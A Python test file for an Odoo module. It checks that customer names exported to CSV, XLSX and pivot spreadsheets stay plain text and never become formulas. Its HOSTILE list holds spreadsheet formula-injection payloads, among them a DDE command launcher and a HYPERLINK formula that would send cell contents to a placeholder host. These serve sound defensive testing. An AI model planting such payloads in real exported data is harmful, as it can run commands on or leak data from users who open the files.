"""What people wrote is text in every file that is exported, and never a formula."""

import csv
import io
import json

import openpyxl
from model.common import ago

from odoo import http
from odoo.tests import HttpCase, new_test_user, tagged

HOSTILE = (
    '=HYPERLINK("https://example.com/"&A1)',
    "=1+",  # with the number of rows in brackets behind it, it is one
    "{=SUM(A1:A2)}",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",  # the name that contacts are shown by has no spaces around it
    "＝1+1",
)
PLAIN = ("Ada's = Co", "3 - 2")
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "{=")


@tagged("post_install", "-at_install")
class TestExports(HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env["cx.first.run"]._of(cls.env.company)._accept()
        cls.user = new_test_user(
            cls.env, "exporter", "cx_lifecycle.group_marketer,base.group_allow_export"
        )
        product = cls.env["product.product"].create({"name": "Thing", "type": "service"})
        partners = cls.env["res.partner"].create(
            [{"name": "x", "phone": "+32 2 290 34 90"} for _name in (*HOSTILE, *PLAIN)]
        )
        for partner, name in zip(partners, (*HOSTILE, *PLAIN), strict=True):
            partner.name = name
            cls.env["sale.order"].create(
                {"partner_id": partner.id, "order_line": [(0, 0, {"product_id": product.id})]}
            ).write({"state": "sale", "date_order": f"{ago(5)} 12:00:00"})  # fmt: skip
        cls.env.flush_all()
        cls.customers = cls.env["cx.customer"].search([("partner_id", "in", partners.ids)])

    def export(self, kind, model, names, domain, groupby=(), compatible=False):
        """A file of a list; its rows: [[(value, whether it is a formula)]]."""
        self.authenticate("exporter", "exporter")
        described = self.env[model].fields_get()
        columns = [
            {"name": name, "label": name, "type": described[name.split("/")[0]]["type"]}
            for name in names
        ]
        question = {
            "model": model, "fields": columns, "ids": False, "domain": domain,
            "groupby": list(groupby), "import_compat": compatible, "context": {},
        }  # fmt: skip
        return self.rows(f"/web/export/{kind}", question)

    def rows(self, url, question):
        answer = self.url_open(
            url, data={"data": json.dumps(question), "csrf_token": http.Request.csrf_token(self)}
        )
        self.assertEqual(answer.status_code, 200, answer.text)
        if url.endswith("csv"):
            lines = csv.reader(io.StringIO(answer.content.decode(), newline=""))
            return [[(cell, cell.startswith(FORMULAS)) for cell in line] for line in lines]
        sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
        return [[(cell.value, cell.data_type == "f") for cell in row] for row in sheet.rows]

    def assertText(self, rows, *expected):
        """No cell is a formula; the names are there, with an apostrophe where it takes one."""
        cells = [cell for row in rows for cell in row]
        self.assertEqual([value for value, formula in cells if formula], [])
        found = [str(value) for value, _formula in cells]
        for name in expected:
            self.assertTrue(
                any(name.strip() in cell.replace("_x000D_", "\r") for cell in found), (name, found)
            )

    def test_customers_and_their_stays(self):
        ours = [("id", "in", self.customers.ids)]
        stays = [("customer_id", "in", self.customers.ids)]
        for kind in ("csv", "xlsx"):
            for compatible in (False, True):
                names = ["partner_id", "partner_id/name", "stage_id", "value_12m"]
                rows = self.export(kind, "cx.customer", names, ours, compatible=compatible)
                self.assertEqual(len(rows), 1 + len(HOSTILE) + len(PLAIN))
                self.assertText(rows, *HOSTILE, *PLAIN)
            names = ["partner_id", "customer_id", "stage_id", "entered_on"]
            rows = self.export(kind, "cx.episode", names, stays)
            self.assertText(rows, *HOSTILE, *PLAIN)

    def test_what_is_no_formula_stays_as_it_is(self):
        rows = self.export("xlsx", "cx.customer", ["partner_id", "phone", "value_12m"],
                           [("partner_id.name", "in", PLAIN)])  # fmt: skip
        names, phones, values = zip(*rows[1:], strict=True)
        self.assertEqual({name for name, _formula in names}, set(PLAIN))
        self.assertEqual({phone for phone, _formula in phones}, {"+32 2 290 34 90"})
        self.assertTrue(all(isinstance(value, int | float) for value, _formula in values))

    def test_the_titles_of_groups(self):
        ours = [("id", "in", self.customers.ids)]
        for groupby in (["partner_id"], ["partner_id", "stage_id"], ["stage_id", "partner_id"]):
            rows = self.export("xlsx", "cx.customer", ["stage_id", "value_12m"], ours, groupby)
            self.assertText(rows, *HOSTILE, *PLAIN)

    def test_pivots(self):
        self.authenticate("exporter", "exporter")
        titles = [*HOSTILE, *PLAIN]
        rows = self.rows(
            "/web/pivot/export_xlsx",
            {
                "model": "cx.customer", "title": "Customers", "measure_count": 1,
                "col_group_headers": [
                    [{"title": title, "width": 1, "height": 1} for title in titles]
                ],
                "measure_headers": [{"title": "Count", "is_bold": False} for _title in titles],
                "rows": [
                    {"title": title, "indent": indent, "values": [{"value": 1, "is_bold": False}]}
                    for title in titles for indent in (0, 1)
                ],
            },
        )  # fmt: skip
        self.assertText(rows, *HOSTILE, *PLAIN)
